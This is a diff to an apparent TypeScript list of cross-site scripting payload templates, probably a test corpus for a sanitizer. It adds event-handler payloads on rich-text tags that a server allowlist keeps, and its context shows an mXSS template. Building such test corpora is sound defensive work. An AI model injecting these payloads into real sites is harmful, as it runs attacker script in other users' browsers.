@@ -192,6 +192,16 @@ const templates: Array<[name: string, make: (e: Encoders) => string]> = [
     'select template mXSS',
     ({ js }) => `<select><template><style><!--</style><img src=x onerror=${js}>--></style></template></select>`,
   ],
+
+  // Handlers on the tags the rich-text editor itself produces, which the server's allowlist keeps.
+  ['p onmouseover', ({ js }) => `<p onmouseover="${js}">hover</p>`],
+  ['span style onerror', ({ js }) => `<span style="color:red" onerror="${js}">x</span>`],
+  ['strong onclick', ({ js }) => `<strong onclick=${js}>bold</strong>`],
+  ['a https onfocus', ({ js }) => `<a href="https://example.com" onfocus="${js}" autofocus>link</a>`],
+  ['mark onpointerenter', ({ js }) => `<mark data-color="#ff0" onpointerenter=${js}>mark</mark>`],
+  ['ol onanimationstart', ({ js }) => `<ol start=1 onanimationstart=${js}><li>item</li></ol>`],
+  ['h3 onerror', ({ js }) => `<h3 onerror=${js}>title</h3>`],
+  ['blockquote onmouseenter', ({ js }) => `<blockquote onmouseenter="${js}">quote</blockquote>`],
 ];
 
 export const XSS_PAYLOADS: XssPayload[] = templates.map(([name, make], index) => {
